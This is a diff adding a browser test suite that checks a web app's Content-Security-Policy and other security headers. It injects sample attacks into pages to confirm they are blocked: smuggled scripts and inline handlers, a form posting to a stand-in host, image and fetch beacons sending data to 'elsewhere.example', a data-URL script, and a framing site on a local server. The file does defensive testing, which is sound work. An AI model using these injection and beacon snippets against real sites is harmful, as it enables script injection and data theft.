@@ -1,0 +1,231 @@
+import { createServer } from "node:http";
+import type { AddressInfo } from "node:net";
+import type { Page } from "playwright-core";
+import { beforeAll, expect, onTestFinished, test } from "vitest";
+import { paths } from "../../src/paths";
+import type { Person } from "./person";
+import { openStage } from "./stage";
+
+const MAP = "https://www.openstreetmap.org/**";
+
+const { arrive, browser, product } = openStage();
+
+/** A site that is up to no good, on an origin of its own. */
+let elsewhereUrl: string;
+
+beforeAll(async () => {
+  const elsewhere = createServer((_request, response) => {
+    response.setHeader("access-control-allow-origin", "*");
+    response.setHeader("content-type", "text/html");
+    response.end(`<iframe src="${product().url}/login"></iframe>`);
+  });
+  await new Promise<void>((resolve) => {
+    elsewhere.listen(0, "127.0.0.1", resolve);
+  });
+  const { port } = elsewhere.address() as AddressInfo;
+  elsewhereUrl = `http://localhost:${port}`;
+  return () => void elsewhere.close();
+});
+
+/** Reports as complaints what the policy stops, on every page of the person's. */
+async function watch({ context }: Person) {
+  await context.addInitScript(() => {
+    addEventListener("securitypolicyviolation", (violation) => {
+      const { effectiveDirective, blockedURI, sourceFile } = violation;
+      console.error(
+        `stopped ${effectiveDirective} ${blockedURI} ${sourceFile}`,
+      );
+    });
+  });
+}
+
+async function visitor(name = "Asha Rao") {
+  const person = await arrive(name);
+  await watch(person);
+  onTestFinished(() => person.context.close());
+  return person;
+}
+
+const address = (path: string) => new URL(path, product().url);
+
+test.each([...Object.values(paths), "/nowhere"])(
+  "%s is sent with its policies and holds nothing inline",
+  async (path) => {
+    const headers = { accept: "text/html" };
+    const response = await fetch(address(path), { headers });
+    const policy = response.headers.get("content-security-policy") ?? "";
+    expect(policy).toContain("script-src 'self';");
+    expect(policy).toContain("style-src 'self';");
+    expect(policy).not.toMatch(/unsafe|https?:(?!\/\/)|\*/);
+    expect(response.headers.get("x-content-type-options")).toBe("nosniff");
+    expect(response.headers.get("permissions-policy")).toContain("camera=()");
+    const html = await response.text();
+    const scripts = html.match(/<script(?![^>]*\bsrc=)[^>]*>/g) ?? [];
+    expect(
+      scripts.filter((tag) => !tag.includes("application/ld+json")),
+    ).toEqual([]);
+    expect(html.match(/<[^>]*\s(style|on\w+)="/g)).toBeNull();
+    expect(html).not.toMatch(/<style|javascript:/);
+  },
+);
+
+test("addresses that hold a secret tell it to nobody", async () => {
+  const referrer = async (path: string) =>
+    (await fetch(address(path))).headers.get("referrer-policy");
+  expect(await referrer(paths.resetPassword)).toBe("no-referrer");
+  expect(await referrer(paths.google)).toBe("no-referrer");
+  expect(await referrer(paths.login)).toBe("strict-origin-when-cross-origin");
+});
+
+test("a popup may go to Google and come back to the window that opened it", async () => {
+  const opener = async (path: string) =>
+    (await fetch(address(path))).headers.get("cross-origin-opener-policy");
+  expect(await opener(paths.login)).toBe("same-origin-allow-popups");
+  expect(await opener(paths.google)).toBe("unsafe-none");
+});
+
+test("the landing page plays its intro without a complaint", async () => {
+  const context = await browser().newContext({ baseURL: product().url });
+  onTestFinished(() => context.close());
+  const complaints: string[] = [];
+  context.on("console", (message) => {
+    if (message.type() === "error") complaints.push(message.text());
+  });
+  const page = await context.newPage();
+  await page.goto("/");
+  await page.waitForURL("**/home");
+  await scrollThrough(page);
+  await page.getByRole("button", { name: "Subscribe" }).waitFor();
+  expect(complaints).toEqual([]);
+});
+
+test("the map comes, and from nowhere else", async () => {
+  const asha = await visitor();
+  await asha.context.route(MAP, (route) =>
+    route.fulfill({ contentType: "text/html", body: "<h1>Streets</h1>" }),
+  );
+  await asha.page.goto(paths.contact);
+  const frame = asha.page.getByTitle("Map of the venue");
+  await frame.scrollIntoViewIfNeeded();
+  await expect.poll(() => frame.isVisible()).toBe(true);
+  expect(asha.complaints()).toEqual([]);
+  await asha.page.evaluate((src) => {
+    const foreign = document.createElement("iframe");
+    foreign.src = src;
+    document.body.append(foreign);
+  }, elsewhereUrl);
+  await expect.poll(() => asha.complaints().join()).toContain("frame-src");
+});
+
+test("a participant's way leads past no policy", async () => {
+  const bina = await visitor("Bina Shah");
+  await bina.register();
+  await bina.createTeam("Quiet Console");
+  await bina.page.goto(paths.account);
+  await bina.page.getByRole("heading", { level: 1 }).waitFor();
+  await scrollThrough(bina.page);
+  await bina.page.goto(paths.team);
+  await bina.leaveTeam();
+  await bina.page.getByRole("button", { name: "Logout" }).first().click();
+  await bina.sees("Successfully logged out");
+  await bina.page.goto(paths.login);
+  await bina.logIn();
+  await bina.page.waitForURL("**/dashboard");
+  await scrollThrough(bina.page);
+  expect(bina.complaints()).toEqual([]);
+});
+
+test.each([
+  [
+    "a script that was smuggled in",
+    "script-src",
+    () => {
+      const script = document.createElement("script");
+      script.textContent = "document.title = 'stolen'";
+      document.body.append(script);
+    },
+  ],
+  [
+    "a handler that was smuggled in",
+    "script-src",
+    () => {
+      const button = document.createElement("button");
+      button.setAttribute("onclick", "document.title = 'stolen'");
+      document.body.append(button);
+      button.click();
+    },
+  ],
+  [
+    "a style that was smuggled in",
+    "style-src",
+    () => {
+      document.body.insertAdjacentHTML("beforeend", "<p style='color: red'>");
+    },
+  ],
+  [
+    "a form that leads elsewhere",
+    "form-action",
+    () => {
+      const form = document.createElement("form");
+      form.action = "https://elsewhere.example/";
+      form.dataset.ready = "";
+      document.body.append(form);
+      form.submit();
+    },
+  ],
+  [
+    "a picture that tells somebody",
+    "img-src",
+    () => {
+      new Image().src = "https://elsewhere.example/?stolen";
+    },
+  ],
+  [
+    "a call that tells somebody",
+    "connect-src",
+    () => {
+      fetch("https://elsewhere.example/").catch(() => {});
+    },
+  ],
+] as const)("%s is stopped by %s", async (_what, directive, smuggle) => {
+  const asha = await visitor();
+  await asha.page.goto(paths.about);
+  await asha.page.evaluate(smuggle);
+  await expect
+    .poll(() => asha.complaints().filter((text) => text.startsWith("stopped")))
+    .toContainEqual(expect.stringContaining(`stopped ${directive}`));
+  expect(await asha.page.title()).not.toBe("stolen");
+});
+
+test("text is never run as a script", async () => {
+  const asha = await visitor();
+  await asha.page.goto(paths.about);
+  const script = asha.page.evaluate(() => {
+    const run = document.createElement("script");
+    run.src = "data:text/javascript,document.title='stolen'";
+    document.body.append(run);
+    return new Promise((resolve) => {
+      run.addEventListener("error", () => resolve("stopped"));
+      run.addEventListener("load", () => resolve("run"));
+    });
+  });
+  expect(await script).toBe("stopped");
+});
+
+test("no other site shows a page of this one inside itself", async () => {
+  const asha = await visitor();
+  await asha.page.goto(elsewhereUrl);
+  const complaint = () => asha.complaints().join();
+  await expect.poll(complaint).toContain("frame-ancestors");
+});
+
+/** Brings everything on a page into view, down to its end. */
+async function scrollThrough(page: Page) {
+  const height = await page.evaluate(() => document.body.scrollHeight);
+  for (let y = 0; y < height; y += 600) {
+    await page.evaluate((top) => {
+      scrollTo({ top, behavior: "instant" });
+      return new Promise(requestAnimationFrame);
+    }, y);
+  }
+}
